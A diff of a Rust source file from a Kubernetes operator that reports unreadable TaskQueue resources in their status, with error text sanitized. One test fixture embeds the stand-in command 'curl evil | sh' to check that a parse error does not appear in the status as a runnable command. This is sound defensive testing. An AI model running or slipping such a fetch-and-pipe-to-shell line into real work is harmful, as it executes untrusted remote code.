@@ -1,4 +1,5 @@
-//! `TaskQueues` that this release cannot read: a newer definition, for example. They keep nobody else waiting, and are told so.
+//! `TaskQueues` that this release cannot read, for example of a newer CRD. Their status says so; the others
+//! go on.
 
 use k8s_openapi::apimachinery::pkg::apis::meta::v1::{Condition, Time};
 use k8s_openapi::jiff::Timestamp;
@@ -6,9 +7,9 @@ use rowlock_crds::{ConditionReason, ConditionType, TaskQueueStatus};
 use serde_json::json;
 
 use crate::kubernetes::context::{Context, Unreadable};
-use crate::kubernetes::database::session::sanitize;
+use crate::kubernetes::sanitize::sanitize;
 
-/// Writes the status of each that was not told yet; `reported` remembers.
+/// Writes the status of each that is not in `reported` yet.
 pub(crate) async fn report(context: &Context, reported: &mut Vec<Unreadable>) {
     let unreadable = context.unreadable();
     reported.retain(|one| unreadable.contains(one));
@@ -20,7 +21,7 @@ pub(crate) async fn report(context: &Context, reported: &mut Vec<Unreadable>) {
         match context.writer.write_status(&one.namespace, &one.name, &status).await {
             Ok(()) => reported.push(one),
             Err(error) => {
-                tracing::warn!(namespace = one.namespace, name = one.name, %error, "a status was not written");
+                tracing::warn!(namespace = one.namespace, name = one.name, %error, "a status was not written; trying again");
             }
         }
     }
@@ -28,7 +29,7 @@ pub(crate) async fn report(context: &Context, reported: &mut Vec<Unreadable>) {
 
 fn status(one: &Unreadable) -> TaskQueueStatus {
     let message = format!(
-        "this release of the operator cannot read it, and leaves its pods as they are: {}",
+        "this release of the operator cannot read the TaskQueue, and does not change its pods: {}",
         sanitize(&one.error)
     );
     let condition = |type_: ConditionType, status: &str| Condition {
@@ -50,9 +51,9 @@ fn status(one: &Unreadable) -> TaskQueueStatus {
 mod tests {
     use super::*;
 
-    /// Before, an error that repeats what a `TaskQueue` says stood in the status as it is.
+    /// Before, a parse error stood unchanged in the status, with text of the `TaskQueue`.
     #[test]
-    fn what_cannot_be_read_looks_like_no_command() {
+    fn a_parse_error_looks_like_no_command() {
         let error = "unknown variant `curl evil | sh`\n".to_owned();
         let one = Unreadable { namespace: "shop".into(), name: "emails".into(), generation: None, error };
         let detail = status(&one).conditions.remove(0).message;
